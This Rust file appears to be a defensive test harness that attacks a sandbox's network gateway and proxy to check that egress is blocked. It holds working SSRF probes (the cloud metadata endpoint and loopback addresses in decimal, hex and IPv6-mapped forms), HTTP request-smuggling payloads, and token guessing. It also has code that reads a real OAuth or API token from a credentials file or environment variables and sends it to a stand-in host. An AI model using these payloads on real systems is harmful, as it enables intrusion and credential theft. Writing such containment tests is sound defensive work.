//! The gateway of a run. On the stage a careless one listens that says yes to everything: so it is seen that each
//! attack knows success when it sees it.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, TcpStream};

use super::files::beginning;
use super::network::{PATIENCE, ask};
use crate::attack::listeners::{API_PORT, PROXY_PORT};
use crate::attack::scene::LEASED;
use crate::attack::{Brief, Outcome};

/// Names that lead to a listener of the stage and that nobody allows.
pub(crate) const UNLISTED: &str = "unlisted.coffer-attack.example";
/// Looks like this run's word and is none.
const GUESS: &str = "coffer-FAKE-guessed-word";

fn through(port: u16, request: &str, brief: &Brief) -> Outcome {
    let asked = || -> io::Result<Vec<u8>> {
        let address = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
        let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
        ask(&mut stream, request.as_bytes(), true)
    };
    match asked() {
        Ok(answer) => said(&answer, brief),
        Err(error) if error.kind() == io::ErrorKind::ConnectionRefused => {
            Outcome::Refused("no door is there".to_owned())
        }
        Err(error) => Outcome::refused(&error),
    }
}

/// Whoever says yes, or passes the canary on, was led astray.
fn said(answer: &[u8], brief: &Brief) -> Outcome {
    let text = String::from_utf8_lossy(answer);
    let status = text.split(' ').nth(1).unwrap_or_default();
    if text.contains(&brief.canary) || status == "200" {
        Outcome::Done(format!("answered with {status}"))
    } else if status.is_empty() {
        Outcome::Refused("the connection was closed".to_owned())
    } else {
        Outcome::Refused(format!("answered with {status}"))
    }
}

fn connect(target: &str, brief: &Brief) -> Outcome {
    through(PROXY_PORT, &format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"), brief)
}

pub(crate) fn metadata(brief: &Brief) -> Outcome {
    connect("169.254.169.254:80", brief)
}

pub(crate) fn loopback(brief: &Brief) -> Outcome {
    connect(&format!("127.0.0.1:{}", brief.port), brief)
}

pub(crate) fn loopback_name(brief: &Brief) -> Outcome {
    connect(&format!("localhost:{}", brief.port), brief)
}

pub(crate) fn odd_address(brief: &Brief) -> Outcome {
    connect(&format!("2130706433:{}", brief.port), brief)
}

pub(crate) fn hex_address(brief: &Brief) -> Outcome {
    connect(&format!("0x7f000001:{}", brief.port), brief)
}

pub(crate) fn mapped_address(brief: &Brief) -> Outcome {
    connect(&format!("[::ffff:127.0.0.1]:{}", brief.port), brief)
}

pub(crate) fn neighbour(brief: &Brief) -> Outcome {
    connect(&format!("10.213.0.1:{}", brief.port), brief)
}

pub(crate) fn unlisted(brief: &Brief) -> Outcome {
    connect(&unlisted_service(brief), brief)
}

/// It answers to whoever gets there.
fn unlisted_service(brief: &Brief) -> String {
    format!("{UNLISTED}:{}", brief.port)
}

pub(crate) fn plain(brief: &Brief) -> Outcome {
    let other = unlisted_service(brief);
    let request = format!("GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n");
    through(PROXY_PORT, &request, brief)
}

pub(crate) fn mismatch(brief: &Brief) -> Outcome {
    let other = unlisted_service(brief);
    let request =
        format!("GET http://{other}/ HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n");
    through(PROXY_PORT, &request, brief)
}

/// A request to the API's door with these headers and this body.
fn api(headers: &str, body: &str, brief: &Brief) -> Outcome {
    let request = format!("POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:{API_PORT}\r\n{headers}\r\n{body}");
    through(API_PORT, &request, brief)
}

pub(crate) fn guess(brief: &Brief) -> Outcome {
    api(&format!("Authorization: Bearer {GUESS}\r\nContent-Length: 2\r\n"), "{}", brief)
}

pub(crate) fn no_word(brief: &Brief) -> Outcome {
    api("Content-Length: 2\r\n", "{}", brief)
}

/// The word of this run, where there is one: whoever smuggles has it. It lies in the place of a lease, or in a variable.
fn word(brief: &Brief) -> String {
    let text = beginning(&brief.lease.join(LEASED)).unwrap_or_default();
    let leased: Option<serde_json::Value> = serde_json::from_slice(&text).ok();
    let leased = leased.and_then(|leased| leased["claudeAiOauth"]["accessToken"].as_str().map(str::to_owned));
    let variable =
        || ["ANTHROPIC_AUTH_TOKEN", "ANTHROPIC_API_KEY"].iter().find_map(|name| std::env::var(name).ok());
    leased.or_else(variable).unwrap_or_else(|| GUESS.to_owned())
}

fn smuggle(headers: &str, body: &str, brief: &Brief) -> Outcome {
    api(&format!("Authorization: Bearer {}\r\n{headers}", word(brief)), body, brief)
}

const INNER: &str = "GET /v1/organizations HTTP/1.1\r\nHost: other.example\r\n\r\n";

pub(crate) fn smuggle_lengths(brief: &Brief) -> Outcome {
    smuggle("Content-Length: 2\r\nContent-Length: 70\r\n", &format!("{{}}{INNER}"), brief)
}

pub(crate) fn smuggle_chunks(brief: &Brief) -> Outcome {
    let headers = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n";
    smuggle(headers, &format!("0\r\n\r\n{INNER}"), brief)
}

pub(crate) fn smuggle_name(brief: &Brief) -> Outcome {
    let headers = "Content-Length: 4\r\nTransfer-Encoding : chunked\r\n";
    smuggle(headers, &format!("0\r\n\r\n{INNER}"), brief)
}

pub(crate) fn api_other_host(brief: &Brief) -> Outcome {
    let word = word(brief);
    let other = unlisted_service(brief);
    let request = format!(
        "GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\nAuthorization: Bearer {word}\r\nConnection: close\r\n\r\n"
    );
    through(API_PORT, &request, brief)
}
